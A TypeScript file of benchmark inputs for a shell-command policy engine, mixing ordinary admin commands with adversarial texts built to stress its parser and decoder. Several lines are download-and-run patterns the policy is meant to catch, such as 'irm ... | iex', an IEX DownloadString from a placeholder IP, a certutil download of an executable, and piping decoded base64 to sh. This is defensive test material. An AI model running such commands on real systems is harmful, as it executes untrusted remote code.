/**
 * Inputs for the policy benchmark: typical admin lines (used when ../shared/corpus is absent),
 * large benign scripts, and adversarial texts built to hit worst cases in lexing, escape
 * handling and decoding. Generated deterministically: no randomness, so runs compare.
 */
import type { Platform, Shell } from '../shared/policy/types';

export interface BenchLine {
  text: string;
  shell: Shell;
  platform: Platform;
}

const win = (shell: Shell, text: string): BenchLine => ({ text, shell, platform: 'windows' });
const lin = (shell: Shell, text: string): BenchLine => ({ text, shell, platform: 'linux' });

/** Ordinary administration plus a few lines a policy must catch, roughly the mix a console sends. */
export const SYNTHETIC_LINES: readonly BenchLine[] = [
  win('powershell', 'Get-Service -Name wuauserv'),
  win('powershell', 'Get-Process | Sort-Object CPU -Descending | Select-Object -First 10'),
  win('powershell', 'Restart-Service -Name Spooler -Force'),
  win('powershell', 'Get-EventLog -LogName System -Newest 50 | Where-Object EntryType -eq Error'),
  win('powershell', 'Get-ChildItem C:\\Logs -Recurse -Filter *.log | Measure-Object -Property Length -Sum'),
  win('powershell', 'Test-NetConnection -ComputerName fileserver01 -Port 445'),
  win('powershell', 'Invoke-WebRequest -Uri https://download.example.com/agent.msi -OutFile C:\\Temp\\agent.msi'),
  win('powershell', 'Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5'),
  win('powershell', 'Get-Help Invoke-Expression -Full'),
  win('powershell', 'Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass'),
  win('powershell', 'irm https://get.example.net/install.ps1 | iex'),
  win('powershell', "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"),
  win('powershell', 'powershell -NoProfile -EncodedCommand ZABpAHIA'),
  win('cmd', 'ipconfig /all'),
  win('cmd', 'winget upgrade --all'),
  win('cmd', 'sc query wuauserv'),
  win('cmd', 'netstat -ano | findstr :443'),
  win('cmd', 'dir C:\\Windows\\Temp /s /b'),
  win('cmd', 'gpupdate /force'),
  win('cmd', 'certutil -urlcache -split -f http://198.51.100.4/p.exe p.exe'),
  win('cmd', 'schtasks /query /fo LIST /v'),
  win('cmd', 'robocopy C:\\Data \\\\backup01\\data /MIR /R:1 /W:1'),
  lin('bash', 'systemctl status nginx'),
  lin('bash', 'journalctl -u sshd --since "1 hour ago"'),
  lin('bash', 'df -h && free -m && uptime'),
  lin('bash', 'grep -ri "iex" /var/log/app/*.log | tail -n 20'),
  lin('bash', 'apt-get update && apt-get -y upgrade'),
  lin('bash', 'curl -fsSL -o /tmp/node.tar.gz https://nodejs.example.org/dist/node.tar.gz'),
  lin('bash', 'tar -xzf /tmp/node.tar.gz -C /opt'),
  lin('bash', 'ps aux --sort=-%mem | head -n 15'),
  lin('bash', 'curl -fsSL https://get.example.io | sh'),
  lin('bash', 'find /var/log -name "*.gz" -mtime +30 -delete'),
  lin('sh', 'ls -la /etc/cron.d'),
  lin('sh', 'ss -tlnp'),
  { text: 'softwareupdate --list', shell: 'zsh', platform: 'macos' },
  { text: 'launchctl list | grep -i example', shell: 'zsh', platform: 'macos' },
];

const PS_SCRIPT = [
  '# Nightly maintenance for {i}',
  'function Invoke-Maintenance{i} {',
  '    param([string]$Path = "C:\\Logs\\app{i}", [int]$Days = 30)',
  '    $cutoff = (Get-Date).AddDays(-$Days)',
  '    Get-ChildItem -Path $Path -Filter *.log -Recurse | Where-Object { $_.LastWriteTime -lt $cutoff } | Remove-Item -WhatIf',
  '    $svc = Get-Service -Name "Spooler" -ErrorAction SilentlyContinue',
  '    if ($svc -and $svc.Status -ne "Running") { Start-Service -Name $svc.Name }',
  '    Write-Output ("Checked {0} files, report at {1}" -f $count, "https://intranet.example.com/reports/{i}")',
  '}',
  '$result{i} = @{ Host = $env:COMPUTERNAME; Time = Get-Date -Format o; Free = (Get-PSDrive C).Free }',
  'Invoke-Maintenance{i} -Days 14 | Out-File -FilePath "C:\\Temp\\maint{i}.txt" -Append',
];
const BASH_SCRIPT = [
  '# rotate and report, block {i}',
  'rotate_{i}() {',
  '  local dir="/var/log/app{i}" days="${1:-30}"',
  '  find "$dir" -name "*.log" -mtime +"$days" -print0 | xargs -0 -r gzip -9',
  '  if systemctl is-active --quiet nginx; then echo "nginx ok"; else systemctl restart nginx; fi',
  "  usage=$(df -h / | awk 'NR==2 {print $5}')",
  '  printf "%s %s\\n" "$(hostname)" "$usage" >> /tmp/report{i}.txt',
  '}',
  'for f in /etc/app{i}/*.conf; do [ -f "$f" ] && grep -q "^enabled=1" "$f" && echo "$f"; done',
  'rotate_{i} 14 && curl -fsS -o /dev/null https://status.example.com/ping/{i} || true',
];
const CMD_SCRIPT = [
  'REM housekeeping block {i}',
  'set LOGDIR=C:\\Logs\\app{i}',
  'if exist "%LOGDIR%" (forfiles /p "%LOGDIR%" /s /m *.log /d -30 /c "cmd /c echo @path") else (echo missing)',
  'for /f "tokens=1,2 delims==" %%a in (\'wmic os get FreePhysicalMemory /value\') do if "%%a"=="FreePhysicalMemory" set FREE=%%b',
  'sc query Spooler | find "RUNNING" >nul || net start Spooler',
  'echo %COMPUTERNAME% %FREE% >> C:\\Temp\\report{i}.txt',
  'robocopy C:\\Data\\{i} \\\\backup01\\data\\{i} /MIR /R:1 /W:1 /NP',
];

const SCRIPTS: Record<'powershell' | 'bash' | 'cmd', readonly string[]> = { powershell: PS_SCRIPT, bash: BASH_SCRIPT, cmd: CMD_SCRIPT };

/** Forces a flat (sequential) string, as text read from JSON or a socket would be. */
export function flat(s: string): string {
  return JSON.parse(JSON.stringify(s)) as string;
}

/** A realistic script of exactly `size` characters (ASCII, so also bytes). */
export function benignScript(shell: 'powershell' | 'bash' | 'cmd', size: number): string {
  const parts: string[] = [];
  let length = 0;
  const template = SCRIPTS[shell];
  for (let i = 0; length < size; i++) {
    for (const line of template) {
      const l = line.split('{i}').join(String(i)) + '\n';
      parts.push(l);
      length += l.length;
    }
  }
  return flat(parts.join('').slice(0, size));
}

function repeatTo(unit: string, size: number): string {
  return flat(unit.repeat(Math.ceil(size / unit.length)).slice(0, size));
}

/** Base64 of the UTF-16LE encoding of `text` (what -EncodedCommand expects). */
function encodeCommand(text: string): string {
  const bytes = Buffer.alloc(text.length * 2);
  for (let i = 0; i < text.length; i++) bytes.writeUInt16LE(text.charCodeAt(i), i * 2);
  return bytes.toString('base64');
}

export interface AdversarialCase {
  name: string;
  shell: Shell;
  platform: Platform;
  text: string;
}

/** Adversarial inputs of `size` characters, each to be compared with a benign script of the same shell and size. */
export function adversarialCases(size: number): AdversarialCase[] {
  const half = Math.floor(size / 2);
  const nestedEnc = (() => {
    // Encodings nested until the size is reached: each level wraps the previous in powershell -enc.
    let text = 'Get-Service';
    for (;;) {
      const next = `powershell -NoProfile -EncodedCommand ${encodeCommand(text)}`;
      if (next.length > size - 2) break;
      text = next;
    }
    return `${text} #${'x'.repeat(size - text.length - 2)}`; // padded with a comment to the exact size
  })();
  const cases: AdversarialCase[] = [
    {
      name: 'nested parens (powershell)',
      shell: 'powershell',
      platform: 'windows',
      text: flat('('.repeat(half) + ')'.repeat(size - half)),
    },
    {
      name: 'nested $( ) (bash)',
      shell: 'bash',
      platform: 'linux',
      text: flat('echo ' + '$('.repeat(Math.floor((size - 5) / 3)) + ')'.repeat(size - 5 - 2 * Math.floor((size - 5) / 3))),
    },
    { name: 'nested cmd /c (cmd)', shell: 'cmd', platform: 'windows', text: repeatTo('cmd /c "', size) },
    { name: '1 MB of double quotes (powershell)', shell: 'powershell', platform: 'windows', text: repeatTo('"', size) },
    { name: '1 MB of single quotes (bash)', shell: 'bash', platform: 'linux', text: repeatTo("'", size) },
    { name: '1 MB of carets (cmd)', shell: 'cmd', platform: 'windows', text: repeatTo('^', size) },
    { name: '1 MB of backticks (powershell)', shell: 'powershell', platform: 'windows', text: repeatTo('`', size) },
    { name: 'one 1 MB token (bash)', shell: 'bash', platform: 'linux', text: repeatTo('a', size) },
    // An option word that a bundled-flags test reads: once 42 s for 200 KB through a backtracking regex.
    {
      name: 'a 1 MB option word (bash)',
      shell: 'bash',
      platform: 'linux',
      text: flat(`curl -${'o'.repeat(size - 30)}! https://x.example/`.slice(0, size)),
    },
    {
      name: '-enc with 1 MB base64 (powershell)',
      shell: 'powershell',
      platform: 'windows',
      text: flat(`powershell -enc ${encodeCommand(benignScript('powershell', Math.floor((size * 3) / 8)))}`.slice(0, size)),
    },
    { name: 'nested -enc to 1 MB (powershell)', shell: 'powershell', platform: 'windows', text: flat(nestedEnc) },
    {
      name: '-enc with 1 MB invalid base64 (powershell)',
      shell: 'powershell',
      platform: 'windows',
      text: flat(`powershell -enc ${'A'.repeat(size - 20)}!!!!`),
    },
    {
      name: 'FromBase64String of 1 MB (powershell)',
      shell: 'powershell',
      platform: 'windows',
      text: flat(`[Convert]::FromBase64String('${'QUFB'.repeat(Math.floor((size - 40) / 4))}')`),
    },
    // A long value expanded over and over: expansions may not multiply the text.
    {
      name: 'a 1 KB variable expanded 1,000 times per KB (bash)',
      shell: 'bash',
      platform: 'linux',
      text: flat(`x=${'a'.repeat(1000)}\n` + repeatTo('echo $x $x $x $x $x $x $x $x $x $x\n', size - 1003)),
    },
    {
      // A doskey macro of 2,000 `$*` called on every line: macro expansions share the same budget.
      name: 'a 2,000-$* doskey macro called 90,000 times (cmd)',
      shell: 'cmd',
      platform: 'windows',
      text: flat(`doskey a=${'$*'.repeat(2000)}\n` + repeatTo('a xxxxxxxx\n', size - 4010)),
    },
    {
      name: 'a 32-entry hashtable splatted 300,000 times (powershell)',
      shell: 'powershell',
      platform: 'windows',
      text: flat(
        `$p = @{ ${Array.from({ length: 32 }, (_, i) => `K${i} = 'v${i}'`).join('; ')} }\n` +
          repeatTo('x @p @p @p @p @p @p @p @p @p @p\n', size - 420),
      ),
    },
    {
      name: 'base64 | base64 -d | sh (bash)',
      shell: 'bash',
      platform: 'linux',
      text: flat(`echo ${'ZWNobyBoaQo'.repeat(Math.floor((size - 30) / 11))} | base64 -d | sh`),
    },
    {
      // Each `kill $p` reads the one assignment of p before it, not every assignment of the text.
      name: 'a PID variable reassigned and killed 33,000 times (bash)',
      shell: 'bash',
      platform: 'linux',
      text: flat(
        Array.from({ length: Math.ceil(size / 24) }, (_, i) => `p=$(ps | grep x${i})\nkill $p\n`)
          .join('')
          .slice(0, size),
      ),
    },
    {
      // Every archive unpacked into its own folder stays known: entering and running from one may not cost a pass over all.
      name: '5,800 archives downloaded, unpacked and entered (powershell)',
      shell: 'powershell',
      platform: 'windows',
      text: flat(
        Array.from(
          { length: Math.ceil(size / 150) },
          (_, i) =>
            `iwr https://x.example.com/a${i}.zip -OutFile a${i}.zip\nExpand-Archive a${i}.zip -DestinationPath C:\\d${i}\nPush-Location (Get-ChildItem -Path C:\\d${i} -Recurse).DirectoryName\n`,
        )
          .join('')
          .slice(0, size),
      ),
    },
    {
      // A written unit's command lines are read once per version of its text, not once per start (25 s before).
      name: 'a 64 KB unit file restarted 50,000 times (bash)',
      shell: 'bash',
      platform: 'linux',
      text: flat(
        (
          'cat > /etc/systemd/system/ne.service <<EOF\n[Service]\n' +
          'ExecStart=/usr/local/bin/ne --a b\n'.repeat(1800) +
          'EOF\n' +
          'systemctl restart ne\n'.repeat(Math.ceil(size / 21))
        ).slice(0, size),
      ),
    },
    {
      // Each decoder asked which files the rest of its pipeline writes: unbounded, 70,000 of them took 42 s.
      name: 'one pipeline of decoders filling the text, into sh (bash)',
      shell: 'bash',
      platform: 'linux',
      text: flat("echo 'abc' " + '| base64 -d '.repeat(Math.floor((size - 16) / 12)) + '| sh'),
    },
    {
      // Each definition's body is scanned for its closing brace (up to 4 KB): unbounded, 200,000 open ones doubled the time.
      name: 'function definitions never closed, filling the text (bash)',
      shell: 'bash',
      platform: 'linux',
      text: flat('f(){\n'.repeat(Math.floor(size / 5))),
    },
    {
      // Each stop of a logging service asks whether the text starts it again: a scan of the whole text per stop took 90 s.
      name: 'a logging service stopped 43,000 times (bash)',
      shell: 'bash',
      platform: 'linux',
      text: repeatTo('systemctl stop rsyslog\n', size),
    },
  ];
  return cases;
}
